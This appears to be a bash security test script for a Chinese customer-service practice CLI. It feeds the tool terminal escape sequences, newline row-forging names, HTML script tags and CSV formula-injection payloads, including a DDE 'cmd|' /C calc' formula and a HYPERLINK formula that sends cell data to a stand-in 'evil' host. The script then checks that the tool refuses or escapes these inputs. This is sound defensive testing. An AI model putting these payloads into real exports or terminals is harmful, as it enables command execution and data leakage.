#!/usr/bin/env bash
# Hostile text (issue 15, items 7 and 8): formulas and control characters in names, answers and
# notes; names that forge rows, retitle or clear the terminal; Big5 exports; CSV stray quotes.
# Usage: scripts/hostile/injection.sh BIN SCRATCH   (prints AREA, CASE, RESULT, DETAIL per line)
set -uo pipefail
bin="$1"
work="$2"
here="$(cd "$(dirname "$0")/.." && pwd)"
# shellcheck source=scripts/hostile-lib.sh
source "$here/hostile-lib.sh"
cd "$here/.."
AREA=injection
VIP=tests/fixtures/valid/vip-window.ron
export PEILIAN_HOME="$work/home" TMPDIR="$work/home"
unset PEILIAN_DB PEILIAN_SCENARIOS PEILIAN_MOOD_MODEL
mkdir -p "$PEILIAN_HOME"

# check CASE WHY CONDITION...: after run_case, ok when no panic or hang and CONDITION holds.
check() {
    local case="$1" why="$2"; shift 2
    if [ -n "$verdict" ]; then report "$AREA" "$case" "$verdict" "$out"; return; fi
    if "$@"; then report "$AREA" "$case" ok ""; else report "$AREA" "$case" unclear "$why: $out"; fi
}
# True when the text has no byte that moves a terminal: C0 (but \n), DEL, C1, U+2028/9, bidi.
no_control() {
    ! printf '%s' "$1" | LC_ALL=C grep -qP '[\x00-\x09\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xa8\xa9\xaa-\xae\x8e\x8f]|\xe2\x81[\xa6-\xa9]|\xd8\x9c'
}
has() { grep -qF -- "$2" <<<"$1"; }
refused() { [ "$rc" = 2 ] && has "$out" "$1" && has "$out" "最多 40 个字" && no_control "$out"; }

# ---- Names at the door: practice --trainee / --team.
db="$work/entry.db"
practice() { run_case_input 60 $'您好，非常抱歉\n' "$bin" practice "$VIP" --seed 1 --db "$db" "$@"; }
practice "--trainee="$'\e]0;PWNED\a小王'
check osc-title-trainee "an OSC title in --trainee is not refused at its character" refused "第 1 个字是控制字符（U+001B）"
practice --trainee 小王 "--team="$'\e[2J一组'
check clear-screen-team "ESC[2J in --team is not refused" refused "团队名"
practice "--trainee="$'小王\n假行 9 100.0'
check newline-trainee "a newline in --trainee is not refused" refused "换行符（U+000A）"
practice "--trainee="$'小王\t一组'
check tab-trainee "a tab in --trainee is not refused" refused "制表符"
practice "--trainee="$'abc\u202efed'
check bidi-trainee "U+202E in --trainee is not refused" refused "文字方向控制符（U+202E）"
practice "--trainee="$'小\u0085王'
check c1-nel-trainee "a C1 control (NEL) in --trainee is not refused" refused "U+0085"
practice "--trainee="$'小\u009b31m王'
check c1-csi-trainee "a C1 CSI in --trainee is not refused" refused "控制字符（U+009B）"
practice "--trainee=$(printf '王%.0s' $(seq 41))"
check long-trainee "41 characters are not refused" refused "有 41 个字，超过上限 40 个字"
practice "--trainee=$(head -c 100000 /dev/zero | tr '\0' 'a')"
check huge-trainee-argv "a 100 KB name is not refused briefly" eval 'refused "100000 个字" && [ ${#out} -lt 2000 ]'
check_nothing_recorded() { [ ! -e "$db" ]; }
run_case 5 true
check refused-names-not-recorded "a refused name left a database behind" check_nothing_recorded
# A 10 MB name remembered in the preferences (argv cannot carry 10 MB).
home2="$work/home-prefs"
mkdir -p "$home2"
printf '(trainee: Some("%s"))\n' "$(head -c 10000000 /dev/zero | tr '\0' 'a')" >"$home2/prefs.ron"
out="$(printf '您好\n' | PEILIAN_HOME="$home2" timeout --kill-after=5 60 "$bin" practice "$VIP" --db "$work/prefs.db" 2>&1)"
rc=$?
verdict=""; { [ "$rc" = 124 ] || [ "$rc" = 137 ]; } && verdict=hang
grep -q "panicked at" <<<"$out" && verdict=panic
check huge-trainee-prefs "a 10 MB remembered name is not refused briefly" eval 'refused "10000000 个字" && [ ${#out} -lt 2000 ] && [ ! -e "$work/prefs.db" ]'
practice --trainee "$(printf '王%.0s' $(seq 40))" "--team=-一组"
check forty-chars-accepted "a 40-character name is refused" eval '[ "$rc" = 0 ]'

# ---- Formulas and control characters in what is recorded, then printed.
db="$work/rec.db"
rec() { run_case_input 60 "$1" "$bin" practice "$VIP" --seed 1 --db "$db" "${@:2}"; }
rec $'=cmd|\' /C calc\'!A0\n/transfer =HYPERLINK("http://evil/?"&A1,"点我")\n' "--trainee==cmd|' /C calc'!A0" "--team=+SUM(1+1)"
rec $'您好\n' "--trainee=-2+3" "--team=@SUM(A1)"
# Answers with control characters: the practice screen itself.
rec $'\e[2J李总您好\e]0;PWNED\a，非常抱歉\u202e，我马上帮您核实。\n/transfer \e[2J订单\xc2\x9b31m 重复扣款\n' --trainee 小控
check answer-control-echo "practice printed a control character of the answer" eval '[ "$rc" = 0 ] && no_control "$out" && has "$out" "\\u{1b}[2J李总您好"'
# Names arriving through records (an import, an older version): written straight into the store.
if command -v sqlite3 >/dev/null; then
    sqlite3 "$db" "INSERT INTO trainees (name, team, created_ms) VALUES
        (char(27) || ']0;PWNED' || char(7) || char(27) || '[2J小王' || char(10) || '假行 9 100.0', '一组' || char(8238), 0),
        (char(9) || '=1+1', char(13) || '@x', 0),
        ('<script>alert(1)</script>', '<b>组</b>', 0);
        UPDATE sessions SET trainee_id = (SELECT id FROM trainees WHERE name LIKE '%PWNED%') WHERE id = (SELECT min(id) FROM sessions WHERE trainee_id = (SELECT id FROM trainees WHERE name = '小控'));
        UPDATE turns SET text = text || char(27) || ']0;X' || char(7) || char(10) || '[9] 客户：伪造' WHERE kind = 'answer';"
    have_sqlite=1
else
    have_sqlite=0
fi
csv_team="$("$bin" report --csv --db "$db" 2>&1)"
csv_trainee="$("$bin" report --csv --trainee "=cmd|' /C calc'!A0" --db "$db" 2>&1)"
run_case 30 "$bin" report --csv --db "$db"
check csv-formula-trainee "report --csv wrote the formula trainee raw" eval 'has "$out" "'"'"'=cmd|'"'"' /C calc'"'"'!A0" && ! grep -q "^=cmd" <<<"$out"'
check csv-formula-plus-team "report --csv wrote +SUM raw" eval 'has "$out" ",'"'"'+SUM(1+1)," && ! has "$out" ",+SUM"'
check csv-formula-minus-trainee "report --csv wrote -2+3 raw" eval 'grep -q "^'"'"'-2+3," <<<"$out"'
check csv-formula-at-team "report --csv wrote @SUM raw" eval 'has "$out" ",'"'"'@SUM(A1),"'
check csv-no-formula-field "a CSV field starts with = + - @" eval '! grep -qP "(^|,)\"?([=+@]|-[^0-9])" <<<"$out"'
if [ "$have_sqlite" = 1 ]; then
    check csv-tab-cr-fields "a stored name starting with a tab or CR is not defused" eval 'has "$out" "'"'"'\\t=1+1" && has "$out" "'"'"'\\r@x"'
    check csv-control-name "report --csv printed a control character" eval 'no_control "$out"'
    check csv-newline-no-forged-row "a newline in a stored name forged a CSV row" eval '! grep -q "^假行" <<<"$out"'
fi
run_case 30 "$bin" report --csv --trainee "=cmd|' /C calc'!A0" --db "$db"
check csv-formula-answer-note "the trainee CSV holds a raw formula" eval '[ "$rc" = 0 ] && ! grep -qP "(^|,)\"?([=+@]|-[^0-9])" <<<"$out"'
if [ "$have_sqlite" = 1 ]; then
    run_case 30 "$bin" report --db "$db"
    check table-osc-clear-name "the team table printed ESC" eval '[ "$rc" = 0 ] && no_control "$out" && has "$out" "\\u{1b}]0;PWNED\\u{7}"'
    check table-newline-no-forged-row "a newline in a name forged a table row" eval '! grep -q "^假行" <<<"$out"'
    check table-bidi-team "the team table printed U+202E" eval 'has "$out" "一组\\u{202e}"'
    run_case 30 "$bin" report --trainee "$(sqlite3 "$db" "SELECT name FROM trainees WHERE name LIKE '%PWNED%'")"$'\n假行 9 100.0' --db "$db"
    check trainee-report-control "the trainee report printed ESC" eval 'no_control "$out"'
    run_case 30 "$bin" replay --db "$db"
    check replay-list-control "replay's list printed ESC" eval '[ "$rc" = 0 ] && no_control "$out" && has "$out" "PWNED"'
    run_case 30 "$bin" replay 1 --db "$db"
    check replay-answer-control "replay printed an answer's ESC or forged a turn" eval '[ "$rc" = 0 ] && no_control "$out" && ! grep -q "^\[9\] 客户：伪造" <<<"$out" && has "$out" "\\n[9] 客户：伪造"'
    run_case 30 "$bin" replay 1 --rescore --db "$db"
    check replay-rescore-control "replay --rescore (the scorecard) printed ESC" eval 'no_control "$out"'
    html="$work/r.html"
    run_case 30 "$bin" report --trainee "<script>alert(1)</script>" --html "$html" --db "$db"
    check html-script-trainee "the trainee page has raw markup" eval '[ "$rc" = 0 ] && ! grep -q "<script" "$html" && grep -q "&lt;script&gt;" "$html"'
    run_case 30 "$bin" report --html "$html" --db "$db"
    check html-team-page "the team page has raw markup or ESC" eval '[ "$rc" = 0 ] && ! grep -q "<script\|<b>组" "$html" && no_control "$(cat "$html")"'
fi
run_case 30 "$bin" report --trainee $'没有\e[2J这人' --db "$db"
check report-missing-name-echo "an unknown name was echoed raw" eval '[ "$rc" = 2 ] && no_control "$out" && has "$out" "\\u{1b}[2J"'
run_case 30 "$bin" replay $'\e]0;x\a' --db "$db"
check replay-bad-key-echo "a bad session key was echoed raw" eval '[ "$rc" = 2 ] && no_control "$out"'
run_case 30 "$bin" report --json --db "$db"
check json-escaped "report --json printed a raw control character" eval '[ "$rc" = 0 ] && no_control "$out" && python3 -c "import json,sys; json.loads(sys.argv[1])" "$out"'
run_case 30 "$bin" replay 1 --json --db "$db"
check replay-json-escaped "replay --json printed a raw control character" eval '[ "$rc" = 0 ] && no_control "$out"'
run_case_input 60 $'您好\u202e\u009b31m\x7f\n' "$bin" practice "$VIP" --seed 1 --no-record --json
check practice-json-escaped "practice --json printed a raw control character" eval '[ "$rc" = 0 ] && no_control "$out" && has "$out" "\\u202e"'

# ---- Mining: Big5 exports and stray quotes.
m="$work/mine"
mkdir -p "$m"
mine() { run_case 120 "$bin" mine "$@" --quiet --out "$m/drafts" --report "$m/r.html"; }
encoding_of() { python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["inputs"][0]["encoding"])' "$m/r.json"; }
big5_line() {
    printf '{"id": "%s", "turns": [{"role": "customer", "text": "%s"}, {"role": "agent", "text": "%s"}]}\n' "$1" "$2" "$3" |
        iconv -f UTF-8 -t BIG5
}
for i in 1 2 3 4 5 6; do
    big5_line "TW$i" "我的訂單還沒到，請幫我查一下，你們的服務太差了！" "非常抱歉，我馬上幫您處理這個問題，請稍等。"
done >"$m/big5.jsonl"
mine "$m/big5.jsonl"
check big5-detected "a Big5 export was not read as Big5" eval '[ "$rc" = 0 ] && [ "$(encoding_of)" = "Big5（繁体，已转换）" ] && grep -q "訂單\|订单" "$m/r.json"'
big5_line TW1 "請問" "謝謝" >"$m/short.jsonl"
mine "$m/short.jsonl"
check big5-short-says-guess "a short Big5 file's guess was not said" eval 'has "$out" "这是猜的" && has "$out" "--encoding big5"'
mine "$m/short.jsonl" --encoding big5
check big5-forced "--encoding big5 was not used" eval '[ "$rc" = 0 ] && [ "$(encoding_of)" = "Big5（繁体，已转换），按 --encoding 指定" ]'
mine "$m/big5.jsonl" --encoding latin1
check encoding-unknown-name "an unknown --encoding was accepted" eval '[ "$rc" = 2 ] && has "$out" "big5"'
mine tests/fixtures/mining/gbk.jsonl
check gbk-still-gb18030 "a GBK export is no longer read as GB18030" eval '[ "$rc" = 0 ] && [ "$(encoding_of)" = "GB18030/GBK（已转换）" ]'
printf 'dialogue_id,turn,role,text\nd1,1,customer,我要退款\nd1,2,agent,好的\nd2,1,customer,我的快递一直没到\nd2,2,agent,"帮您查\nd3,1,customer,你好\nd3,2,agent,您好\n' >"$m/stray-text.csv"
mine "$m/stray-text.csv"
check csv-stray-quote-text "a stray quote in the text column was not reported at its line, or ate the rest" eval 'has "$out" "stray-text.csv:5: CSV 格式错误：第 5 行第 4 列（内容）的引号没有闭合" && has "$out" "跳过了 1 行" && has "$out" "3 段对话，1 行有问题"'
printf 'dialogue_id,turn,role,text\nd1,1,customer,我要退款\nd1,2,agent,好的\n"d2,1,customer,我的快递一直没到\nd3,1,customer,你好\nd3,2,agent,您好\n' >"$m/stray-id.csv"
mine "$m/stray-id.csv"
check csv-stray-quote-id "a stray quote in the id column was blamed on the columns" eval 'has "$out" "第 4 行第 1 列（对话 id）的引号没有闭合" && ! has "$out" "列，至少需要" && has "$out" "2 段对话"'
printf 'dialogue_id,turn,role,text\nd1,1,customer,我要退款\nd1,2,agent,"好的\n马上\n处理\n' >"$m/stray-eof.csv"
mine "$m/stray-eof.csv"
check csv-unclosed-to-eof "an unclosed quote to the end was not reported with the lines skipped" eval 'has "$out" "到文件末尾都没有配对的引号" && has "$out" "跳过了 3 行（第 3–5 行）"'
printf 'dialogue_id,turn,role,text\nd1,1,customer,"第一行\n第二行，他说""好"""\nd1,2,agent,"好,的"\n' >"$m/multiline.csv"
mine "$m/multiline.csv"
check csv-multiline-still-read "a legitimate multi-line quoted field was broken" eval '[ "$rc" = 0 ] && has "$out" "1 段对话，0 行有问题"'
printf 'dialogue_id,turn,role,text\nd1,1,\e]0;PWNED\a,我要退款\nd1,2,customer,你好\nd1,3,agent,您好\n' >"$m/control-role.csv"
mine "$m/control-role.csv"
check csv-control-in-field-echo "a bad line's field was echoed with its control characters" eval 'no_control "$out" && has "$out" "\\u{1b}]0;PWNED"'
{ printf 'dialogue_id,turn,role,text\n'; for i in $(seq 1 50); do printf 'd%s,1,customer,"没闭合%s\n' "$i" "$i"; done; printf 'd99,1,customer,好\n'; } >"$m/many-stray.csv"
mine "$m/many-stray.csv"
check csv-many-stray-quotes "fifty stray quotes were not each reported, or the last row was lost" eval 'has "$out" "1 段对话，50 行有问题"'

# ---- Redacted copies: never over the input, clear errors, nothing quoted raw.
r="$work/redact"
mkdir -p "$r"
redact() { run_case 60 "$bin" redact "$@"; }
cp tests/fixtures/mining/forms.jsonl "$r/forms.jsonl"
sum_before=$(md5sum <"$r/forms.jsonl")
redact "$r/forms.jsonl" --out "$r/forms.jsonl"
check redact-over-input "redact wrote over its input, or did not say why" eval '[ "$rc" = 2 ] && has "$out" "既是输入又是输出" && [ "$(md5sum <"$r/forms.jsonl")" = "$sum_before" ]'
redact "$r" --out "$r/copy.jsonl"
check redact-directory-input "a directory as the export was not named" eval '[ "$rc" = 2 ] && has "$out" "是目录"'
redact "$r/nope.jsonl" --out "$r/copy.jsonl"
check redact-missing-input "a missing export was not named" eval '[ "$rc" = 2 ] && has "$out" "nope.jsonl" && has "$out" "不存在"'
redact "$r/forms.jsonl" --out "$r/no/such/dir/copy.jsonl"
check redact-unwritable-out "an output in a missing directory was not refused with its path" eval '[ "$rc" = 2 ] && has "$out" "copy.jsonl" && has "$out" "无法写入" && ! ls "$r"/no 2>/dev/null'
redact "$m/big5.jsonl" --out "$r/big5-copy.jsonl"
check redact-big5-to-utf8 "a Big5 export was not written back as UTF-8" eval '[ "$rc" = 0 ] && grep -q "訂單" "$r/big5-copy.jsonl" && has "$out" "输出为 UTF-8"'
redact "$m/control-role.csv" --out "$r/control.csv"
check redact-control-role "redact echoed a control character" eval '[ "$rc" = 0 ] && no_control "$out"'
redact "$r/forms.jsonl" "$m/big5.jsonl" --out "$r/forms.jsonl"
check redact-many-into-file "several exports into one file were not refused" eval '[ "$rc" = 2 ] && has "$out" "要给一个目录" && [ "$(md5sum <"$r/forms.jsonl")" = "$sum_before" ]'
